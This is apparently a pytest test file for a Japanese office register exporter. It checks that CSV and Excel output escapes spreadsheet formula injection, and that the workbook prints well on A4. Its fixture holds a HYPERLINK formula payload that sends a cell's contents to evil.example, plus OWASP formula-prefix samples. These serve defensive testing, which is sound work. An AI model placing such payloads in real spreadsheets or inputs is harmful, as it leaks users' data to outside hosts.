"""The register as an office opens it (issue 21.2, 21.3): no cell a spreadsheet would run as
a formula, and a workbook that reads and prints well in Excel. Read back as the office
would: the csv module for the CSV, openpyxl for the workbook (cell types, widths, page
set-up)."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from tests.pdf_reading import blank_pdf, png
from tests.village import APPLICATION, Village

ID = "somu-evil"
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"x")'
# Every character OWASP names as starting a formula, each as a service's name.
NAMES = {"+": "+1+cmd", "-": "-2+3", "@": "@SUM(1,1)"}


def yaml_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture
def hostile(village: Village) -> Village:
    (village.files / "signup.png").write_bytes(png())
    (village.files / "terms.pdf").write_bytes(blank_pdf())
    text = APPLICATION.format(id=ID, info_class=3)
    text = text.replace("provider: Google LLC", f"provider: {yaml_quoted(HOSTILE)}")
    text = text.replace("name: Google ドライブ", f"name: {yaml_quoted(NAMES['+'])}")
    source = village.write(f"{ID}.yaml", text)
    village.ok(
        "apply", "--from", str(source),
        "--attach", f"signup={village.files / 'signup.png'}",
        "--attach", f"terms={village.files / 'terms.pdf'}",
        "--date", "2026-03-20",
    )  # fmt: skip
    for key, name in NAMES.items():
        other = text.replace(f"id: {ID}", f"id: somu-evil{ord(key)}")
        other = other.replace(yaml_quoted(NAMES["+"]), yaml_quoted(name))
        source = village.write(f"other{ord(key)}.yaml", other)
        village.ok("apply", "--from", str(source), "--date", "2026-03-20")
    village.ok("validate")  # accepted: a name is a name; only the register must not run it
    return village


def test_csv_cells_cannot_start_a_formula(hostile: Village, tmp_path: Path) -> None:
    target = tmp_path / "register.csv"
    hostile.ok("register", "--format", "csv", "--as-of", "2026-05-10", "-o", str(target))
    data = target.read_bytes()
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8-sig"), newline="")))
    header = rows[0]
    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    evil = next(r for r in body if r["管理番号"] == ID)
    assert evil["提供者"] == "'" + HOSTILE  # shown as written, after the escaping quote
    assert evil["サービス"] == "'" + NAMES["+"]
    assert {r["サービス"] for r in body} == {"'" + n for n in NAMES.values()}
    assert evil["申請日"] == "2026-03-20"  # dates and plain text are left as they were


def test_xlsx_text_cells_are_strings_never_formulas(hostile: Village, tmp_path: Path) -> None:
    target = tmp_path / "register.xlsx"
    hostile.ok("register", "--as-of", "2026-05-10", "-o", str(target))
    book = openpyxl.load_workbook(target)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    provider = header.index("提供者") + 1
    cells = {sheet.cell(r, 1).value: sheet.cell(r, provider) for r in range(2, sheet.max_row + 1)}
    evil = cells[ID]
    assert evil.value == HOSTILE and evil.data_type == "s"
    assert evil.quotePrefix  # stays text when a clerk edits the cell in Excel
    # The raw sheet holds no <f> element at all: nothing for Excel to evaluate.
    import zipfile

    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(ch) in "WFA" else 1 for ch in text)


def test_xlsx_reads_and_prints_well_in_excel(village: Village, tmp_path: Path) -> None:
    (village.files / "signup.png").write_bytes(png())
    (village.files / "terms.pdf").write_bytes(blank_pdf())
    village.approved("somu-drive", date="2026-04-01")
    village.ok("acknowledge", "somu-drive", "--date", "2026-04-02", as_="suzuki")
    target = tmp_path / "register.xlsx"
    # 2026-05-10: the first backup (due 2026-05-01) is late, the review not yet due.
    village.ok("register", "--as-of", "2026-05-10", "-o", str(target))
    book = openpyxl.load_workbook(target)
    for sheet in book.worksheets:
        # Every column as wide as its widest cell in display width (a Japanese character
        # counts two), so nothing is cut: 「データの保存場所」 is 9 characters, 18 wide.
        for column in range(1, sheet.max_column + 1):
            letter = get_column_letter(column)
            values = [sheet.cell(r, column).value for r in range(1, sheet.max_row + 1)]
            texts = [
                v.strftime("%Y-%m-%d") if hasattr(v, "strftime") else str(v)
                for v in values
                if v is not None
            ]
            widest = max(_width(text) for text in texts)
            width = sheet.column_dimensions[letter].width
            assert width >= min(widest, 58), (sheet.title, letter, texts, width)
        setup = sheet.page_setup
        assert str(setup.paperSize) == sheet.PAPERSIZE_A4  # 9: A4
        assert setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert setup.fitToWidth == 1 and setup.fitToHeight == 0
        assert sheet.print_title_rows == "$1:$1"
    register = book.worksheets[0]
    header = [c.value for c in register[1]]
    column = get_column_letter(header.index("データの保存場所") + 1)
    assert register.column_dimensions[column].width >= 18
    assert _states(book) == {
        "バックアップ（毎月）": "9日超過",
        "利用目的・情報の確認（毎月）": "9日超過",
    }
    early = tmp_path / "early.xlsx"
    village.ok("register", "--as-of", "2026-04-25", "-o", str(early))
    assert set(_states(openpyxl.load_workbook(early)).values()) == {"あと6日"}
    village.ok("register", "--as-of", "2026-05-01", "-o", str(early))
    assert set(_states(openpyxl.load_workbook(early)).values()) == {"今日まで"}


def _states(book: openpyxl.Workbook) -> dict[str, object]:
    """The due sheet's 状況 column by task: words with their unit, never a bare number."""
    rows = list(book.worksheets[1].iter_rows(values_only=True))
    status = rows[0].index("状況")
    return {str(row[2]): row[status] for row in rows[1:]}
